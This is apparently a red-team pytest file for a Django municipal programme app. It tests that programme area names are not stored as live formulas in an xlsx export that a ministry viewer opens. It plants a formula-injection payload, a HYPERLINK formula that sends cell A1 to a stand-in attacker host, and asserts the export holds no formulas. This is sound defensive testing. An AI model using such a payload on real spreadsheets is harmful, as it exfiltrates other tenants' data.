"""Red team, learning circle programme export: one municipality's text becomes a live
formula in the programme viewer's spreadsheet of all municipalities.

``learning.views.programme_export`` passes ``programme.export_rows`` (programme area
names, kept by each municipality's analysts and area directors with
``areas.change_programmearea``) to ``figures.exports.as_xlsx``, which appends the
strings as is; openpyxl stores a string starting with "=" as a formula. A programme
area named ``=HYPERLINK(...)`` in one town runs in Excel at the ministry's programme
viewer (spreadsheet formula injection across tenants)."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from wijkregie.areas.models import ProgrammeArea
from wijkregie.learning import programme

pytestmark = pytest.mark.django_db


def test_programme_area_name_is_no_formula_in_the_export(demo, login):
    indicator = programme.shared_indicators()[0]
    area = ProgrammeArea.objects.filter(observations__indicator=indicator).first()
    ProgrammeArea.objects.filter(pk=area.pk).update(
        name='=HYPERLINK("https://aanvaller.example/?d="&A1,"Bron")')
    response = login("programma").get(f"/leerkring/export.xlsx?indicator={indicator.key}")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    formulas = [cell.coordinate for sheet in book for row in sheet.iter_rows()
                for cell in row if cell.data_type == "f"]
    assert formulas == []
